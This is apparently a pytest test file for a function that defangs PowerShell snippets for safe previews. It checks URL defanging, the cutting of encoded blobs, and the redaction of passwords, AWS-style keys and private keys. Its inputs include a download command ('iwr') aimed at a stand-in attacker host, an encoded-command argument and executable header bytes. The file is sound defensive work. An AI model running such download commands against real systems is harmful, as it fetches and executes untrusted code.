"""Defanged previews: known answers, and any text."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from psembed.powershell import defanging


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("iwr https://evil.example/a.ps1", "iwr hxxps://evil[.]example/a.ps1"),
        ("iwr HTTP://10.0.0.1:80/x", "iwr hxxp://10[.]0[.]0[.]1:80/x"),
        ("ping bad-host.example.com", "ping bad-host[.]example[.]com"),
        ("ftp://192.0.2.7/x", "fxp://192[.]0[.]2[.]7/x"),
        ("-enc " + "aGVsbG8A" * 20, "-enc <160 characters cut>"),
        ("(0x4d,0x5a," + "0x00," * 40 + "1)", "(<210 characters cut>1)"),
        ("$password = 'hunter2hunter2'", "$password = '<cut>'"),
        ("$k = 'AKIAABCDEFGHIJKLMNOP'", "$k = '<key cut>'"),
        ("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----", "<key cut>"),
        ("a\r\n\tb\x1b[31m\u202ec", "a b [31m c"),
        ("ConvertFrom-SecureString", "ConvertFrom-SecureString"),
    ],
)
def test_defang_known_answers(text, shown):
    assert defanging.defang(text) == shown


@given(st.text(), st.integers(10, 300))
def test_defang_is_one_bounded_line_without_live_address(text, limit):
    shown = defanging.defang(f"{text} http://a.example/ {text}", limit)
    assert len(shown) <= limit
    assert shown.isprintable()
    assert "http://" not in shown.lower()
